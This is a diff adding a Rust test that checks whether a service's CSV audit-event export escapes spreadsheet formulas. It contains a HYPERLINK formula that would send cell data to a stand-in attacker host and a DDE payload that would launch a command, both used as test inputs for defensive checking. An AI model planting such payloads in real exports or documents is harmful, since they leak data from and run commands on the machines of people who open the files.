@@ -298,3 +298,54 @@ async fn tenant_admins_export_only_their_own_tenant() {
     assert_eq!(err.code(), Code::Unauthenticated);
     stack.stop().await;
 }
+
+/// A cell a spreadsheet would run as a formula: starts with `=`, `+`, `-`, `@`, tab or CR
+/// and is not a plain number.
+fn runs_as_formula(cell: &str) -> bool {
+    let plain_number = cell.strip_prefix('-').is_some_and(|rest| {
+        !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_digit() || b == b'.')
+    });
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number
+}
+
+#[tokio::test]
+async fn text_from_callers_never_reaches_a_spreadsheet_as_a_formula() {
+    let stack = Stack::start().await;
+    let actor = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    let token = stack.token(actor, Role::PlatformAdmin, None).await;
+    let mut client = stack.client_with(Some(&token));
+    let created = client
+        .create_tenant(pb::CreateTenantRequest {
+            tenant_id: "acme".into(),
+            display_name: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
+            config: Some(config(500, 80, 110, "30d")),
+        })
+        .await
+        .unwrap()
+        .into_inner();
+    client
+        .update_budget_config(pb::UpdateBudgetConfigRequest {
+            tenant_id: "acme".into(),
+            config: Some(config(750, 85, 120, "30d")),
+            etag: created.config.unwrap().etag,
+        })
+        .await
+        .unwrap();
+    let day = Utc::now().date_naive().format("%Y-%m-%d").to_string();
+    let answer = stack
+        .client()
+        .export_tenant_data(request("acme", pb::ExportKind::AuditEvents, &day, &day))
+        .await
+        .unwrap()
+        .into_inner();
+    let (_, rows) = parse(&answer.csv);
+    let by_actor: Vec<_> = rows
+        .iter()
+        .filter(|r| r[2] == format!("'{actor}"))
+        .collect();
+    assert_eq!(by_actor.len(), 2, "the actor, shown as text: {rows:?}");
+    for cell in rows.iter().flatten() {
+        assert!(!runs_as_formula(cell), "{cell:?} in {rows:?}");
+    }
+    stack.stop().await;
+}
